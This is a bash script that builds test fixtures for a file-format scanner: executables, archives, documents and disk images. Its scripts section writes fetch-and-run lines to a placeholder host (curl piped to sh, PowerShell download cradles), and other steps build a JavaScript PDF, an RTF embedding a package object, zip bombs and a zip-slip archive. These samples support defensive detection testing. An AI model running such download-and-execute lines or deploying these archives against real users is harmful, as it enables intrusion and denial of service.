#!/usr/bin/env bash
# Rebuilds tests/fixtures/bin/: one real file per loader-signature entry, each made by
# the tool that makes such files (compilers, linkers, archivers, image builders from
# Debian's packages; the cfb and zip.js writers from npm). The outputs are committed, so
# tests and CI need none of these tools. Formats without a free creator on Debian (LNK,
# TNEF, RAR, DMG) are written by scripts/make_fixture_formats.py from their published
# specifications, byte layout documented there.
#
# Debian packages: clang lld llvm (llvm-lipo-14) nasm qpdf mono-mcs openjdk-17-jdk-headless wixl fp-utils
#   genisoimage udftools qemu-utils p7zip-full gcab arj zip gzip bzip2 xz-utils netpbm
set -euo pipefail
cd "$(dirname "$0")/.."
OUT=tests/fixtures/bin
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT
mkdir -p "$OUT"

# --- native executables -------------------------------------------------------------
cat > "$WORK/hello.c" <<'C'
int main(void) { return 0; }
C
cat > "$WORK/win.c" <<'C'
int start(void) { return 0; }
__declspec(dllexport) int exported(void) { return 1; }
C
gcc -O1 -no-pie -o "$OUT/elf_exe.elf" "$WORK/hello.c"
gcc -O1 -pie -fPIE -o "$OUT/elf_pie.elf" "$WORK/hello.c"
gcc -O1 -shared -fPIC -o "$OUT/elf_so.so" "$WORK/hello.c"
strip "$OUT"/elf_*

clang -target x86_64-pc-windows-msvc -c -o "$WORK/win.obj" "$WORK/win.c"
lld-link /nologo /nodefaultlib /entry:start /subsystem:console /out:"$OUT/pe_exe.exe" "$WORK/win.obj"
lld-link /nologo /nodefaultlib /noentry /dll /out:"$OUT/pe_dll.dll" "$WORK/win.obj"
lld-link /nologo /nodefaultlib /entry:start /subsystem:efi_application /out:"$OUT/pe_efi.efi" "$WORK/win.obj"
rm -f "$OUT"/*.lib "$OUT"/*.exp
cat > "$WORK/hello.cs" <<'CS'
class Hello { static int Main() { return 0; } }
CS
mcs -nologo -out:"$OUT/pe_dotnet.exe" "$WORK/hello.cs"

# An MZ program without a PE header: a real DOS executable assembled by nasm.
cat > "$WORK/dos.asm" <<'ASM'
; MS-DOS MZ executable: header, then code that exits with int 21h/4Ch.
        org 0
header: db 'MZ'
        dw (end - header) % 512     ; bytes on last page
        dw (end - header + 511) / 512 ; pages
        dw 0                        ; relocations
        dw 2                        ; header size in paragraphs (32 bytes)
        dw 0, 0xffff                ; min/max extra paragraphs
        dw 0, 0x100                 ; ss:sp
        dw 0                        ; checksum
        dw 0, 0                     ; cs:ip
        dw 0x1c                     ; relocation table offset
        dw 0                        ; overlay
        times 32 - ($ - header) db 0
code:   mov ax, 0x4c00
        int 0x21
end:
ASM
nasm -f bin -o "$OUT/msdos.exe" "$WORK/dos.asm"

# Mach-O: clang emits Mach-O objects for Apple targets without an SDK; llvm-lipo makes fat files.
clang -target x86_64-apple-macos11 -c -o "$OUT/macho_64le.o" "$WORK/hello.c"
clang -target i386-apple-macos10.12 -c -o "$OUT/macho_32le.o" "$WORK/hello.c"
clang -target arm64-apple-macos11 -c -o "$WORK/arm64.o" "$WORK/hello.c"
llvm-lipo-14 -create -output "$OUT/macho_fat.o" "$OUT/macho_64le.o" "$WORK/arm64.o"

# Java: a class file (shares 0xCAFEBABE with fat Mach-O) and a jar.
mkdir -p "$WORK/java"
cat > "$WORK/java/Hello.java" <<'JAVA'
public class Hello { public static void main(String[] a) { System.out.println("hi"); } }
JAVA
javac --release 11 -d "$WORK/java" "$WORK/java/Hello.java"
cp "$WORK/java/Hello.class" "$OUT/java_class.class"
(cd "$WORK/java" && jar cfe "$WORK/hello.jar" Hello Hello.class)
cp "$WORK/hello.jar" "$OUT/jar.jar"

# --- scripts ----------------------------------------------------------------------------
printf '#!/bin/sh\ncurl -s http://example.invalid/x | sh\n' > "$OUT/script_sh.sh"
printf '@echo off\r\nset T=%%TEMP%%\\x.exe\r\npowershell -c "iwr http://example.invalid/x -OutFile %%T%%"\r\nstart %%T%%\r\n' > "$OUT/script_win_batch.bat"
printf 'Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n' > "$OUT/script_win_vbs.vbs"
printf 'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("calc.exe");\r\n' > "$OUT/script_win_jscript.js"
printf '<package>\r\n<job id="x">\r\n<script language="JScript">\r\nWScript.Echo("x");\r\n</script>\r\n</job>\r\n</package>\r\n' > "$OUT/script_win_wsf.wsf"
printf '<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize">\r\n<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>\r\n' > "$OUT/script_win_hta.hta"
printf '$c = New-Object System.Net.WebClient\r\nIEX $c.DownloadString("http://example.invalid/p.ps1")\r\n' > "$OUT/script_win_ps1.ps1"

# --- Windows formats ----------------------------------------------------------------------
cat > "$WORK/product.wxs" <<'WXS'
<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="*" Name="qmvc fixture" Language="1033" Version="1.0.0" Manufacturer="qmvc" UpgradeCode="8e0b1f0e-7a7e-4c4e-9a52-2f6a4c0d1e11">
    <Package InstallerVersion="200" Compressed="yes" />
    <Media Id="1" Cabinet="product.cab" EmbedCab="yes" />
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="ProgramFilesFolder"><Directory Id="INSTALLDIR" Name="qmvc">
        <Component Id="Main" Guid="3f2b6c1e-2d4a-4b8e-9c1d-5e6f7a8b9c0d"><File Id="readme" Source="readme.txt" /></Component>
      </Directory></Directory>
    </Directory>
    <Feature Id="All" Level="1"><ComponentRef Id="Main" /></Feature>
  </Product>
</Wix>
WXS
echo "fixture" > "$WORK/readme.txt"
(cd "$WORK" && wixl -o product.msi product.wxs)
cp "$WORK/product.msi" "$OUT/msi.msi"

mkdir -p "$WORK/chm"
printf '<html><body><p>help</p></body></html>\n' > "$WORK/chm/index.html"
(cd "$WORK/chm" && chmcmd --help >/dev/null 2>&1 || true)
cat > "$WORK/chm/project.hhp" <<'HHP'
[OPTIONS]
Compiled file=help.chm
Default topic=index.html
Title=qmvc fixture

[FILES]
index.html
HHP
(cd "$WORK/chm" && chmcmd project.hhp >/dev/null)
cp "$WORK/chm/help.chm" "$OUT/chm.chm"

# OLE2 compound files and OOXML written by real writers from npm (cfb, @zip.js/zip.js).
./node_modules/.bin/deno run --allow-read --allow-write scripts/make_office_fixtures.ts "$OUT"

# --- documents ------------------------------------------------------------------------------
cat > "$OUT/pdf_plain.pdf" <<'PDF'
%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
trailer << /Root 1 0 R >>
%%EOF
PDF
cat > "$OUT/pdf_js.pdf" <<'PDF'
%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
4 0 obj << /Type /Action /S /J#61vaScript /JS (app.alert\('x'\);) >> endobj
trailer << /Root 1 0 R >>
%%EOF
PDF
# The same actions hidden in a compressed object stream, as real-world PDFs hide them.
# (qpdf exits 3 for "succeeded with warnings": the hand-written file has no xref table.)
qpdf --object-streams=generate --compress-streams=y "$OUT/pdf_js.pdf" "$OUT/pdf_js_objstm.pdf" || [ $? -eq 3 ]
printf '{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard Hello.\\par}\n' > "$OUT/rtf_plain.rtf"
printf '{\\rtf1\\ansi Hello.{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616326b6167650000000000000000000}}}\n' > "$OUT/rtf_object.rtf"

# --- pictures: complete files whose structure ends at their last byte (-n may skip them) ---
ppmpat -gingham2 -color=red,blue 48 32 > "$WORK/pattern.ppm"
pnmtopng "$WORK/pattern.ppm" > "$OUT/image_png.png"
pnmtojpeg "$WORK/pattern.ppm" > "$OUT/image_jpeg.jpg"
ppmtogif "$WORK/pattern.ppm" > "$OUT/image_gif.gif" 2>/dev/null

# --- archives -------------------------------------------------------------------------------
printf 'hello\n' > "$WORK/hello.txt"
(cd "$WORK" && zip -q -X hello.zip hello.txt) && cp "$WORK/hello.zip" "$OUT/zip.zip"
python3 -c 'import zipfile,sys; zipfile.ZipFile(sys.argv[1],"w").close()' "$OUT/zip_empty.zip"
head -c 200000 /dev/urandom > "$WORK/random.bin"
(cd "$WORK" && zip -q -X -s 64k split.zip random.bin) && cp "$WORK/split.z01" "$OUT/zip_spanned.z01"
(cd "$WORK" && 7z a -bd -bso0 hello.7z hello.txt) && cp "$WORK/hello.7z" "$OUT/7z.7z"
(cd "$WORK" && gcab -c hello.cab hello.txt) && cp "$WORK/hello.cab" "$OUT/cab.cab"
gzip -9 -n -c "$WORK/hello.txt" > "$OUT/gz.gz"
(cd "$WORK" && gzip -9 -c hello.txt > named.gz) && cp "$WORK/named.gz" "$OUT/gz_named.gz"
bzip2 -9 -c "$WORK/hello.txt" > "$OUT/bz2.bz2"
xz -9 -c "$WORK/hello.txt" > "$OUT/xz.xz"
(cd "$WORK" && arj a -y hello.arj hello.txt >/dev/null) && cp "$WORK/hello.arj" "$OUT/arj.arj"

# Archives that exercise the budgets: ZipCrypto-encrypted, a zip in a zip holding an
# executable, a bomb (20 MiB of zeros, ratio ~1000:1), and a self-extractor-style zip
# behind a PNG prefix (zip -A fixes the offsets, as SFX builders do).
(cd "$WORK" && zip -q -X -P secret encrypted.zip hello.txt) && cp "$WORK/encrypted.zip" "$OUT/zip_encrypted.zip"
cp "$OUT/pe_exe.exe" "$WORK/setup.exe"
(cd "$WORK" && zip -q -X inner.zip setup.exe && zip -q -X nested.zip inner.zip hello.txt) && cp "$WORK/nested.zip" "$OUT/zip_nested_exe.zip"
head -c 20971520 /dev/zero > "$WORK/zeros.bin"
(cd "$WORK" && zip -q -X -9 bomb.zip zeros.bin) && cp "$WORK/bomb.zip" "$OUT/zip_bomb.zip"
printf '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89' > "$WORK/prefix.png"
cat "$WORK/prefix.png" "$WORK/inner.zip" > "$WORK/polyglot.zip" && (cd "$WORK" && zip -q -A polyglot.zip) && cp "$WORK/polyglot.zip" "$OUT/zip_prefixed.png"
# A zip whose first member is named "../x" (a zip-slip path some readers refuse, which
# must not hide the executable next to it). zip(1) strips such paths, Python's writer keeps them.
python3 -c 'import zipfile,sys; z=zipfile.ZipFile(sys.argv[1],"w",zipfile.ZIP_DEFLATED); z.writestr("../x","hello\n"); z.write(sys.argv[2],"invoice.exe"); z.close()' "$OUT/zip_unsafe_member_name.zip" "$OUT/pe_exe.exe"
tar -C "$WORK" -cf "$WORK/bundle.tar" setup.exe hello.txt && gzip -9 -n -c "$WORK/bundle.tar" > "$OUT/tar_gz_exe.tar.gz"
cp "$WORK/bundle.tar" "$OUT/tar_exe.tar"
# The executable in the formats 7-Zip unpacks for qmvc: 7z (plain, encrypted content,
# encrypted names), CAB, tar.bz2, tar.xz; and a bzip2 bomb (100 MiB of zeros in ~100 bytes).
(cd "$WORK" && 7z a -bd -bso0 exe.7z setup.exe hello.txt) && cp "$WORK/exe.7z" "$OUT/7z_exe.7z"
(cd "$WORK" && 7z a -bd -bso0 -psecret enc.7z setup.exe) && cp "$WORK/enc.7z" "$OUT/7z_encrypted.7z"
(cd "$WORK" && 7z a -bd -bso0 -psecret -mhe=on encnames.7z setup.exe) && cp "$WORK/encnames.7z" "$OUT/7z_encrypted_names.7z"
(cd "$WORK" && gcab -c exe.cab setup.exe hello.txt) && cp "$WORK/exe.cab" "$OUT/cab_exe.cab"
bzip2 -9 -c "$WORK/bundle.tar" > "$OUT/tar_bz2_exe.tar.bz2"
xz -9 -c "$WORK/bundle.tar" > "$OUT/tar_xz_exe.tar.xz"
head -c 104857600 /dev/zero | bzip2 -9 > "$OUT/bz2_bomb.bz2"
head -c 104857600 /dev/zero > "$WORK/zeros100.bin" && (cd "$WORK" && 7z a -bd -bso0 bomb.7z zeros100.bin) && cp "$WORK/bomb.7z" "$OUT/7z_bomb.7z"
# A tar.gz inside a zip: the executable is two archives down.
cp "$OUT/tar_gz_exe.tar.gz" "$WORK/bundle.tgz" && (cd "$WORK" && zip -q -X zip_tgz.zip bundle.tgz) && cp "$WORK/zip_tgz.zip" "$OUT/zip_tgz_exe.zip"

# --- disk images ------------------------------------------------------------------------------
genisoimage -quiet -o "$OUT/iso9660.iso" "$WORK/hello.txt"
truncate -s 1M "$WORK/udf.img" && mkudffs --media-type=hd --blocksize=2048 "$WORK/udf.img" >/dev/null && cp "$WORK/udf.img" "$OUT/udf.img"
qemu-img create -q -f raw "$WORK/raw.img" 64K
qemu-img convert -q -f raw -O vpc -o subformat=fixed "$WORK/raw.img" "$OUT/vhd_fixed.vhd"
qemu-img convert -q -f raw -O vpc "$WORK/raw.img" "$OUT/vhd_dynamic.vhd"
qemu-img convert -q -f raw -O vhdx "$WORK/raw.img" "$OUT/vhdx.vhdx"

# --- formats with no free creator on Debian -----------------------------------------------
python3 scripts/make_fixture_formats.py "$OUT"

ls -la "$OUT"
